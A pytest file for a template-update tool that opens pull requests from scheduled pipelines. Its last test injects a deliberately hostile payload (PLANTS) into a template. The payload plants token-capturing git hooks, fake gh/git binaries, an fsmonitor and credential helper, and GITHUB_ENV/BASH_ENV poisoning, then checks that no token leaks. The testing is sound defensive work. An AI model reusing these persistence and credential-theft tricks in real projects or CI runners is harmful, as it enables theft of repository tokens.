"""Updates as pull requests, as the scheduled pipelines make them."""

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests import support
from tests.life import lives
from tests.life.conftest import Recorded
from tests.life.history import LATER, NEXT, THIS, release

GH = """\
#!/bin/sh
echo "gh $*" >>"{calls}"
case "$2" in
list) cat "{closed}" ;;
create)
  [ -e "{opened}" ] && { echo "a pull request already exists" >&2; exit 1; }
  touch "{opened}"
  echo https://example.com/pull/1
  ;;
esac
"""


class Proposals:
    """A repository whose `gh` notes what it is asked."""

    def __init__(self, life: lives.Life, folder: Path) -> None:
        self.life, self.folder = life, folder
        self.bin = folder / "bin"
        self.bin.mkdir()
        (folder / "closed").write_text("[]", encoding="utf-8")
        text = GH
        for name in ("calls", "closed", "opened"):
            text = text.replace(f"{{{name}}}", str(folder / name))
        (self.bin / "gh").write_text(text, encoding="utf-8")
        (self.bin / "gh").chmod(0o755)

    def run(self, *arguments: str) -> lives.Done:
        """Do what the workflow does."""
        path = f"{self.bin}{os.pathsep}{support.TOOLS_FIRST}"
        done = self.life.update("--branch", *arguments, PATH=path)
        assert done.returncode == 0, done.stdout + done.stderr
        return self.life.run("scripts/template-propose", PATH=path)

    def calls(self, verb: str) -> list[str]:
        """Return how `gh pr` was called."""
        log = self.folder / "calls"
        text = log.read_text(encoding="utf-8") if log.exists() else ""
        return [call for call in text.split("gh pr ")[1:] if call.startswith(verb)]

    def tip(self) -> str:
        """Return the branch on the server."""
        return support.git("rev-parse", "template-update", cwd=self.folder / "remote.git")


@pytest.fixture
def proposals(begun: lives.Begun, tmp_path: Path) -> Proposals:
    """One whose template has newer versions."""
    return Proposals(begun(THIS), tmp_path)


def test_an_update_is_proposed_once_and_renewed(proposals: Proposals, record: Recorded) -> None:
    life = proposals.life
    done = proposals.run("--to", NEXT)
    assert (done.returncode, done.stdout) == (0, "proposed https://example.com/pull/1\n"), done.stderr
    [created] = proposals.calls("create")
    assert f"--title Update the template to {NEXT} --body ## 1001.0.0\n\n- Notes." in created
    assert "Template-Version" not in created
    assert "--draft" not in created
    assert life.git("status", "--porcelain") == ""
    assert life.git("symbolic-ref", "--short", "HEAD") == "main"

    first = proposals.tip()
    proposals.run("--to", NEXT)
    assert proposals.tip() == first, "nothing is newer: no push"
    life.bump_everywhere()
    done = proposals.run()
    assert done.returncode == 0, done.stderr
    assert len(proposals.calls("create")) == 3  # The later ones are refused: it is open.
    assert f"--title Update the template to {LATER}" in proposals.calls("edit")[-1]
    assert support.git("rev-parse", "template-update^", cwd=proposals.folder / "remote.git") == life.git(
        "rev-parse", "HEAD"
    )
    life.git("merge", "-q", "--ff-only", "template-update")
    assert life.lost() == []
    assert life.run("scripts/validate", "--no-tools").returncode == 0
    record("The scheduled pipeline", "one pull request with the changelog, renewed, never doubled")


def test_conflicts_are_in_the_pull_request(proposals: Proposals, record: Recorded) -> None:
    life = proposals.life
    path = life.app / "base" / "backend" / "deployment.yaml"
    life.replace(path, "revisionHistoryLimit: 5", "revisionHistoryLimit: 9")
    life.commit()
    assert proposals.run().returncode == 0
    [created] = proposals.calls("create")
    assert f"--title Update the template to {LATER} (conflicts in 1 file)" in created
    assert "- `apps/goal-tracker/base/backend/deployment.yaml`" in created
    assert "--draft" in created
    life.git("checkout", "-q", "template-update")
    done = life.run("scripts/validate", "--no-tools")
    assert done.returncode == 1, "a draft with markers fails its checks"
    assert "<<<<<<<" in path.read_text(encoding="utf-8")
    record("A conflict in the pull request", "a draft; files in its title and text, markers in them, checks that fail")


def test_gitlab_opens_a_draft_with_the_push(proposals: Proposals, record: Recorded) -> None:
    life = proposals.life
    asked = support.move_to_gitlab(life.product, push_options=True)
    path = life.app / "base" / "backend" / "deployment.yaml"
    life.replace(path, "revisionHistoryLimit: 5", "revisionHistoryLimit: 9")
    life.commit()
    done = proposals.run()
    assert done.stdout == "proposed https://gitlab.test/o/r/-/merge_requests/7\n", done.stderr
    assert f"merge_request.title=Update the template to {LATER} (conflicts in 1 file)" in asked.read_text()
    assert "merge_request.draft" in asked.read_text().splitlines()
    assert proposals.calls("create") == []
    record("A conflict on GitLab", "the same as a merge request, which the push itself asks for")


@pytest.mark.parametrize(
    "how", [(), ("--amend", "--no-edit", "--date=2030-01-01")], ids=["by a commit", "by an amended one"]
)
def test_a_branch_that_somebody_works_on_is_left_alone(
    how: tuple[str, ...], proposals: Proposals, record: Recorded
) -> None:
    life = proposals.life
    assert proposals.run("--to", NEXT).returncode == 0
    life.git("checkout", "-q", "template-update")
    (life.product / "ours.md").write_text("# Ours\n", encoding="utf-8")
    life.git("add", "-A")
    life.git("commit", "-q", *(how or ("-m", "Mine")))
    life.git("push", "-q", "--force", "origin", "template-update")
    theirs = proposals.tip()
    life.git("checkout", "-q", "main")
    refused = life.update("--branch", "--to", NEXT)
    assert (refused.returncode, life.git("rev-parse", "template-update").strip()) == (1, theirs.strip())
    life.git("branch", "-q", "-D", "template-update")
    done = proposals.run()
    assert done.returncode == 0
    assert done.stdout.startswith("left alone: branch template-update holds commits of somebody else")
    assert proposals.tip() == theirs
    record("Somebody has added commits to the proposal, or amended its own", "left alone, and said")


def test_a_branch_that_is_checked_out_is_left_alone(proposals: Proposals, record: Recorded) -> None:
    life = proposals.life
    assert life.update("--branch", "--to", NEXT).returncode == 0
    assert life.update("--branch", "--to", LATER).returncode == 0, "its own is renewed"
    life.git("checkout", "-q", "template-update")
    life.git("reset", "-q", "--hard", "main")
    done = life.update("--branch", "--to", LATER)
    assert (done.returncode, life.git("status", "--porcelain")) == (1, "")
    assert "template-update: git branch: fatal: cannot force update the branch 'template-update'" in done.stderr
    record("The branch template-update is checked out here", "refused in one line, untouched")


def test_a_version_that_was_declined_is_not_proposed_again(proposals: Proposals, record: Recorded) -> None:
    closed = [
        {"title": f"Update the template to {version}", "state": "CLOSED", "isCrossRepository": fork, "url": url}
        for version, fork, url in [
            (LATER, True, "https://example.com/pull/8"),
            (NEXT, False, "https://example.com/pull/7"),
        ]
    ]
    (proposals.folder / "closed").write_text(json.dumps(closed), encoding="utf-8")
    assert "declined before, at https://example.com/pull/7" in proposals.run("--to", NEXT).stdout
    assert not proposals.calls("create")
    assert proposals.run("--to", LATER).returncode == 0
    assert len(proposals.calls("create")) == 1
    record(
        "A proposal that a person has closed", "the next version is proposed, that one is not; a fork's counts for none"
    )


def test_a_token_that_may_not_change_workflows_is_explained(proposals: Proposals, record: Recorded) -> None:
    life = proposals.life
    hook = proposals.folder / "remote.git" / "hooks" / "pre-receive"
    hook.write_text(
        "#!/bin/sh\necho 'refusing to allow a GitHub App to create or update workflow `.github/workflows/check.yml` "
        "without `workflows` permission' >&2\nexit 1\n",
        encoding="utf-8",
    )
    hook.chmod(0o755)
    life.git("checkout", "-q", "-B", "template-update")
    workflow = life.product / ".github" / "workflows" / "check.yml"
    workflow.write_text(workflow.read_text(encoding="utf-8") + "# A change.\n", encoding="utf-8")
    life.git("commit", "-q", "-a", "-m", "Update the template to v2\n\nTemplate-Version: v2")
    done = life.run("scripts/template-propose", PATH=f"{proposals.bin}{os.pathsep}{support.TOOLS_FIRST}")
    assert done.returncode == 1
    assert done.stderr.startswith("template-propose: this update changes .github/workflows/check.yml, which the token")
    assert "PROPOSALS_KEY" in done.stderr
    assert len(done.stderr.splitlines()) == 1
    record("The update changes workflows and the token may not", "fails with what to allow")


# What a template may leave on the machine that runs its code, each to send away a token that comes there later.
PLANTS = """
import pathlib, subprocess
here = subprocess.check_output(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"], text=True).strip()
thief = "#!/bin/sh\\necho \\"$0 $GH_TOKEN\\" >>{loot}\\ncase ${0##*/} in gh | git) PATH={path} exec \\"${0##*/}\\" \\"$@\\" ;; esac\\n"
places = [pathlib.Path(here, "hooks", name) for name in ("pre-push", "reference-transaction", "post-index-change")]
places += [pathlib.Path(os.environ["HOME"], "bin", name) for name in ("gh", "git", "helper")]
for place in places:
    place.parent.mkdir(exist_ok=True)
    place.write_text(thief)
    place.chmod(0o755)
helper = str(places[-1])
subprocess.run(["git", "config", "--file", f"{here}/config", "core.fsmonitor", helper])
subprocess.run(["git", "config", "--global", "credential.helper", f"!{helper}"])
for name, line in (("GITHUB_PATH", helper.rpartition("/")[0]), ("GITHUB_ENV", f"BASH_ENV={helper}")):
    with open(os.environ[name], "a") as file:
        file.write(line + "\\n")
pathlib.Path(here).with_name("scripts").joinpath("gitops", "publish.py").open("a").write(
    "\\nimport os\\nopen('{loot}', 'a').write('module ' + os.environ.get('GH_TOKEN', '') + '\\\\n')\\n"
)
"""


class Machines:
    """Runs the steps of a workflow as GitHub does: each job begins on a machine of its own, with nothing of another's."""

    def __init__(self, proposals: Proposals, path: str) -> None:
        self.folder, self.path = proposals.folder / "machines", path
        self.remote = proposals.folder / "remote.git"
        self.outputs: dict[str, str] = {}
        self.said = ""

    def run(self, workflow: Path) -> None:
        """Run all jobs, in their order."""
        for name, job in yaml.safe_load(workflow.read_text(encoding="utf-8"))["jobs"].items():
            if "if" not in job or self.outputs.get("artifact-id"):
                self._run_job(self.folder / name, job)

    def _run_job(self, machine: Path, job: dict[str, Any]) -> None:
        for folder in ("home", "temp"):
            (machine / folder).mkdir(parents=True)
        for file in ("env", "path"):
            (machine / file).touch()
        for step in job["steps"]:
            if action := step.get("uses"):
                self._act(machine, action.partition("@")[0], step["with"])
            else:
                self._run_step(machine, step)

    def _act(self, machine: Path, action: str, given: dict[str, Any]) -> None:
        where = Path(str(given.get("path")).replace("${{ runner.temp }}", str(machine / "temp")))
        kept = self.folder / "artifact"
        if action == "actions/checkout":
            support.git("clone", "-q", f"--depth={given.get('fetch-depth', 1) or 99}", f"file://{self.remote}",
                        str(machine / "work"), cwd=machine)  # fmt: skip
        elif action == "actions/upload-artifact" and where.exists():
            kept.mkdir()
            shutil.copy(where, kept)
            self.outputs["artifact-id"] = "1"
        elif action == "actions/download-artifact":
            shutil.copytree(kept, where)

    def _run_step(self, machine: Path, step: dict[str, Any]) -> None:
        added = (machine / "path").read_text(encoding="utf-8").split()
        given = dict(line.split("=", 1) for line in (machine / "env").read_text(encoding="utf-8").splitlines())
        secret = dict.fromkeys(step.get("env", {}), "the-token")
        done = subprocess.run(
            ["bash", "-e", "-c", step["run"]], cwd=machine / "work", capture_output=True, text=True, check=False,
            env={
                "HOME": str(machine / "home"), "PATH": ":".join([*reversed(added), self.path]),
                "RUNNER_TEMP": str(machine / "temp"), "GITHUB_ENV": str(machine / "env"),
                "GITHUB_PATH": str(machine / "path"), "PYTHONDONTWRITEBYTECODE": "1", **given, **secret,
            },
        )  # fmt: skip
        self.said += done.stdout + done.stderr
        assert done.returncode == 0, self.said


def test_nothing_that_the_templates_code_leaves_behind_meets_the_token(
    versions: Path, proposals: Proposals, tmp_path: Path, record: Recorded
) -> None:
    evil, loot = shutil.copytree(versions, tmp_path / "evil"), tmp_path / "loot"
    make = proposals.bin / "make"
    make.write_text(f'#!/bin/sh\nPATH={support.TOOLS_FIRST} exec make "$@"\n', encoding="utf-8")
    make.chmod(0o755)
    path = f"{proposals.bin}:{support.TOOLS_FIRST}"
    plants = PLANTS.replace("{loot}", str(loot)).replace("{path}", path)
    at_the_end = f"import atexit, os\n\natexit.register(exec, {plants!r}, {{'os': os}})\n"
    for file, planted in (("post_generation.py", f"\n{plants}"), ("updates/command.py", f"\n{at_the_end}")):
        code = evil / "hooks" / file
        text = code.read_text(encoding="utf-8")
        code.write_text(re.sub(r"\n(?=\n\ndef )", planted.replace("\\", r"\\"), text, count=1), encoding="utf-8")
    release(evil, "v1003.0.0")
    life = proposals.life
    for file in (".copier-answers.yml", "scripts/updates/origin.yaml"):
        if (life.product / file).exists():
            life.replace(life.product / file, str(versions), str(evil))
    life.commit()
    machines = Machines(proposals, path)
    machines.run(life.product / ".github" / "workflows" / "template-update.yml")
    assert "proposed https://example.com/pull/1" in machines.said
    assert loot.exists(), "the template's code is run, where there is nothing to find"
    assert "the-token" not in loot.read_text(encoding="utf-8")
    record("The template plants hooks, configuration, programs and variables", "none of them meets a token")
